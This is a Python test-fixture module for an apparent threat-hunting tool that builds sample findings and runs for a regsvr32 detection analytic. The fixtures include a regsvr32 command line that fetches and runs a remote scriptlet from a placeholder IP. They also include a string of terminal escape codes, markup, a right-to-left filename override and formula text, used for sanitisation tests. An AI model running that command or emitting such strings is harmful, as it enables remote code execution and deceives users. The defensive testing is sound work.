"""Parts of runs, built by hand."""

from datetime import UTC, datetime

from carhound.findings.run import (
    AnalyticResult,
    Evidence,
    FileReport,
    Finding,
    HostCoverage,
    ImplementationResult,
    Run,
    RunInfo,
)
from carhound.model.diagnostics import Diagnostic, Source, Span
from carhound.model.event import Place

REGSVR32 = r"C:\Windows\System32\regsvr32.exe"
ANALYTIC = "CAR-2019-04-002"
MAIN, MAIN_P = "Main Pattern", "Main Pattern - pseudocode"
NEW = "New items since last month"
SPAWN, SPAWN_P = "Spawning child processes", "Spawning child processes - pseudocode"
LOAD, LOAD_P = "Loading unsigned images", "Loading unsigned images - pseudocode"
NAMES = (MAIN, MAIN_P, NEW, SPAWN, SPAWN_P, LOAD, LOAD_P)
HOSTILE = (
    "cmd /c \x1b[2J\x1b]0;gone\x07 [bold red]x[/] echo \u202etxt.exe\u2066 "
    "\u200bzero\nnext\tline \ud800 =1+1 日本語"
)

INFO = RunInfo(
    command=("hunt", "logs"),
    version="0.1.0",
    engine="interpreter",
    now=datetime(2018, 12, 4, 12, 0, 0, tzinfo=UTC),
    now_from="just after the newest matching event",
    tz="UTC",
    reading="published",
)


def time(text: str) -> datetime:
    """2018-12-04T09:12 and so on, in UTC."""
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def process(number: int, **changes: object) -> Finding:
    """A process that regsvr32 started."""
    image = str(changes.pop("image", r"C:\Windows\System32\calc.exe"))
    parent = str(changes.pop("parent", REGSVR32))
    command = changes.pop("command", f'"{image}"')
    native = {
        "EventCode": "1",
        "Image": image,
        "ParentImage": parent,
        "ParentCommandLine": "regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll",
        "User": r"CORP\alice",
        "Hashes": ("MD5=0123", "SHA256=4567"),
    }
    car = {"image_path": image, "parent_image_path": parent, "user": r"CORP\alice"}
    if command is not None:
        native["CommandLine"] = car["command_line"] = str(command)
    defaults: dict[str, object] = {
        "id": f"{number:02d}" + "ab" * 31,
        "analytic": ANALYTIC,
        "implementations": (MAIN, MAIN_P, SPAWN, SPAWN_P),
        "time": time(f"2018-12-04T09:{number:02d}:44.123"),
        "computer": "WS-0042.corp.example",
        "object": "process/create",
        "provider": "Microsoft-Windows-Sysmon",
        "event_id": "1",
        "places": (Place("logs/ws42/Microsoft-Windows-Sysmon%4Operational.evtx", f"46301{number}"),),
        "native": native,
        "car": car,
    }
    return Finding(**{**defaults, **changes})  # type: ignore[arg-type]


def module(number: int, **changes: object) -> Finding:
    """A module that regsvr32 loaded."""
    loaded = r"C:\Users\alice\AppData\Local\Temp\AllTheThingsx86.dll"
    defaults: dict[str, object] = {
        "id": f"{number:02d}" + "cd" * 31,
        "analytic": ANALYTIC,
        "implementations": (LOAD, LOAD_P),
        "time": time(f"2018-12-04T10:{number:02d}:01"),
        "computer": "WS-0042.corp.example",
        "object": "module/load",
        "provider": "Microsoft-Windows-Sysmon",
        "event_id": "7",
        "places": (Place("logs/ws42.zip/sysmon.json", "line 12"), Place("logs/copy.json", "line 3")),
        "native": {
            "Image": REGSVR32,
            "ImageLoaded": loaded,
            "Signed": "false",
            "Signature": "-",
            "SignatureStatus": "Unavailable",
        },
        "car": {"image_path": REGSVR32, "module_path": loaded},
    }
    return Finding(**{**defaults, **changes})  # type: ignore[arg-type]


def implementation(name: str, *findings: Finding, **changes: object) -> ImplementationResult:
    """A result holding these findings."""
    defaults: dict[str, object] = {
        "name": name,
        "language": "pseudocode" if name.endswith("pseudocode") else "spl",
        "status": "ran",
        "eligible": 1204,
        "matched": len(findings),
        "findings": tuple(finding.id for finding in findings),
    }
    return ImplementationResult(**{**defaults, **changes})  # type: ignore[arg-type]


def analytic(*implementations: ImplementationResult, **changes: object) -> AnalyticResult:
    """The analytic with these results."""
    defaults: dict[str, object] = {
        "id": ANALYTIC,
        "title": "Generic Regsvr32",
        "path": "analytics/CAR-2019-04-002.yaml",
        "sha256": "00" * 32,
        "attack": (
            {
                "technique": "T1218",
                "subtechniques": ("T1218.010",),
                "tactics": ("TA0005",),
                "coverage": "Low",
            },
        ),
        "d3fend": (
            {"id": "D3-PLA", "label": "Process Lineage Analysis", "iri": "d3f:ProcessLineageAnalysis"},
        ),
        "data_model_references": (("process/create/exe", True), ("process/create/image", False)),
        "implementations": implementations,
    }
    return AnalyticResult(**{**defaults, **changes})  # type: ignore[arg-type]


def host(
    computer: str | None, events: int, one: int, seven: int, judged: tuple[str, ...], **changes: object
) -> HostCoverage:
    """A computer of the morning of 2018-12-04."""
    defaults: dict[str, object] = {
        "computer": computer,
        "first": time("2018-12-04T08:00"),
        "last": time("2018-12-04T11:59:59.999"),
        "events": events,
        "sysmon_1": one,
        "sysmon_7": seven,
        "security_4688": 12,
        "security_4688_with_command_line": 10,
        "judged": tuple((ANALYTIC, name) for name in judged),
    }
    return HostCoverage(**{**defaults, **changes})  # type: ignore[arg-type]


def file(path: str, shape: str | None = "evtx", events: int = 1204, **changes: object) -> FileReport:
    """A file of evidence."""
    defaults: dict[str, object] = {
        "path": path,
        "format": shape,
        "bytes": 1_118_208,
        "sha256": None,
        "events": events,
        "eligible": events // 2,
        "duplicates": 0,
        "damaged": (),
        "skipped": (),
    }
    return FileReport(**{**defaults, **changes})  # type: ignore[arg-type]


def run(*analytics: AnalyticResult, findings: tuple[Finding, ...] = (), **changes: object) -> Run:
    """A complete run over one host and one file."""
    defaults: dict[str, object] = {
        "info": INFO,
        "analytics": analytics,
        "hosts": (host("WS-0042.corp.example", 1204, 120, 482, NAMES),),
        "evidence": Evidence((file("logs/ws42/Microsoft-Windows-Sysmon%4Operational.evtx"),), ()),
        "findings": findings,
        "status": "complete",
        "reasons": (),
    }
    return Run(**{**defaults, **changes})  # type: ignore[arg-type]


def caret(text: str, marked: str, message: str, hint: str | None = None, code: str = "SPL-C1") -> Diagnostic:
    """An error about the word `marked` of a text on line 41 of a document."""
    at = text.index(marked)
    source = Source(text, "analytics/CAR-2019-04-002.yaml", 41, 6)
    return Diagnostic(code, message, "error", Span(at, at + len(marked)), source, hint)
